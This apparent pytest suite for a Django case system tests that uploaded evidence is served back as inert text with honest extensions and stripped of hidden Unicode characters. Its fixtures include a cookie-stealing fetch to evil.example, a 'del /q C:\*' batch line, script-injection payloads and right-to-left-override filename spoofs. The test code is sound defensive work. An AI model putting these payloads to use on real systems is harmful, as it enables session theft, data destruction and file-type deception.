"""Evidence comes back under a name that says what it really is, and never as something a
browser runs: on the web, in the API and inside a referral packet alike (common.files)."""

from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from cases import services
from cases.models import Evidence
from common import files

pytestmark = pytest.mark.django_db

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "cv<RLO>fdp.exe" shows as "cvexe.pdf"

TRICKS = [
    # (uploaded name, content, name handed back)
    ("resume.pdf.js", b"fetch('https://evil.example/?c=' + document.cookie);", "resume.pdf.js.txt"),
    ("invoice.pdf.bat", b"@echo off\r\ndel /q C:\\*\r\n", "invoice.pdf.bat.txt"),
    ("page.html", b"<!doctype html><script>alert(document.domain)</script>\n", "page.html.txt"),
    (
        "drawing.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
        "drawing.svg.txt",
    ),
    (f"cv{RLO}fdp.exe", b"MZ? no: plain text pretending\n", "cvfdp.exe.txt"),
    (f"notes{RLO}txt.exe", b"meeting notes\n", "notestxt.exe.txt"),
]


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def download(client, case, evidence, door):
    base = "/api/v1/cases" if door == "api" else "/cases"
    return client.get(f"{base}/{case.reference}/evidence/{evidence.pk}/download/")


def disposition(name: str) -> str:
    """The Content-Disposition Django writes for `name`."""
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return f"attachment; filename*=utf-8''{quote(name)}"
    return f'attachment; filename="{name}"'


@pytest.mark.parametrize("door", ["web", "api"])
@pytest.mark.parametrize(("name", "content", "handed_back"), TRICKS)
def test_a_text_file_is_handed_back_with_the_extension_of_its_real_type(
    client, open_case, hr, door, name, content, handed_back
):
    case = open_case()
    evidence = services.upload_evidence(hr, case, upload(name, content))
    assert evidence.content_type == "text/plain"  # stored as inert text, byte for byte
    assert evidence.stored_name.endswith(".txt")
    assert RLO not in evidence.original_name
    client.force_login(hr)

    response = download(client, case, evidence, door)

    assert response.status_code == 200
    assert response["Content-Disposition"] == disposition(handed_back)
    assert response["Content-Type"].startswith("text/plain")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == content


@pytest.mark.parametrize(
    "hidden",
    [
        "\u202e",  # right-to-left override
        "\u202d",  # left-to-right override
        "\u2066",  # left-to-right isolate
        "\u200b",  # zero-width space
        "\u200f",  # right-to-left mark
        "\ufeff",  # byte order mark
        "\u00ad",  # soft hyphen
        "\u3164",  # Hangul filler (a letter that shows as blank)
        "\x1b",  # escape
        "\x7f",  # delete
    ],
)
def test_invisible_and_control_characters_are_stripped_from_names_at_upload(open_case, hr, hidden):
    evidence = services.upload_evidence(hr, open_case(), upload(f"scan{hidden}gpj.txt", b"x"))
    assert evidence.original_name == "scangpj.txt"


@pytest.mark.parametrize("door", ["web", "api"])
def test_a_name_stored_before_the_rule_is_cleaned_when_downloaded(client, open_case, hr, door):
    case = open_case()
    evidence = services.upload_evidence(hr, case, upload("cv.txt", b"notes"))
    Evidence.objects.filter(pk=evidence.pk).update(original_name=f"cv{RLO}fdp.exe")
    client.force_login(hr)

    response = download(client, case, Evidence.objects.get(pk=evidence.pk), door)

    assert response["Content-Disposition"] == 'attachment; filename="cvfdp.exe.txt"'


ACTIVE_TYPES = [
    "text/html",
    "text/html; charset=utf-8",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/javascript",
    "application/javascript",
    "application/ecmascript",
    "application/xml",
    "text/xml",
    "application/rss+xml",
    "text/css",
]


@pytest.mark.parametrize("door", ["web", "api"])
@pytest.mark.parametrize("stored_type", ACTIVE_TYPES)
def test_active_content_is_only_ever_served_as_an_inert_text_attachment(
    client, open_case, hr, door, stored_type
):
    case = open_case()
    evidence = services.upload_evidence(hr, case, upload("page.html", b"<p>hello</p>"))
    # A row stored by an older version, or by hand, with a type a browser would render.
    Evidence.objects.filter(pk=evidence.pk).update(content_type=stored_type)
    client.force_login(hr)

    response = download(client, case, Evidence.objects.get(pk=evidence.pk), door)

    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="page.html.txt"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_a_type_the_server_does_not_know_is_served_as_bytes(client, open_case, hr):
    case = open_case()
    evidence = services.upload_evidence(hr, case, upload("tool", b"data"))
    Evidence.objects.filter(pk=evidence.pk).update(content_type="application/x-msdownload")
    client.force_login(hr)

    response = download(client, case, Evidence.objects.get(pk=evidence.pk), "web")

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="tool.bin"'


@pytest.mark.parametrize(
    ("name", "content_type", "handed_back"),
    [
        ("bank letter.pdf", "application/pdf", "bank letter.pdf"),
        ("photo.JPEG", "image/jpeg", "photo.JPEG"),
        ("photo.jpg", "image/jpeg", "photo.jpg"),
        ("scan", "image/png", "scan.png"),
        ("scan.pdf", "image/png", "scan.pdf.png"),
        ("export.csv", "text/csv; charset=utf-8", "export.csv"),
        ("면접 기록.txt", "text/plain", "면접 기록.txt"),
        ("", "text/plain", "file.txt"),
    ],
)
def test_honest_names_are_kept_and_the_others_get_their_real_extension(
    name, content_type, handed_back
):
    assert files.download_name(name, content_type) == handed_back


def test_names_stored_before_the_rule_lose_their_hidden_characters_in_the_migration(open_case, hr):
    import importlib

    from django.apps import apps

    migration = importlib.import_module(
        "cases.migrations.0012_evidence_names_without_hidden_characters"
    )
    case = open_case()
    tricked = services.upload_evidence(hr, case, upload("a.txt", b"a"))
    honest = services.upload_evidence(hr, case, upload("이력서 사본.pdf", b"%PDF-1.4\n"))
    Evidence.objects.filter(pk=tricked.pk).update(original_name=f"cv{RLO}fdp.exe\u200b")

    migration.strip_hidden_characters(apps, None)

    assert Evidence.objects.get(pk=tricked.pk).original_name == "cvfdp.exe"
    assert Evidence.objects.get(pk=honest.pk).original_name == "이력서 사본.pdf"
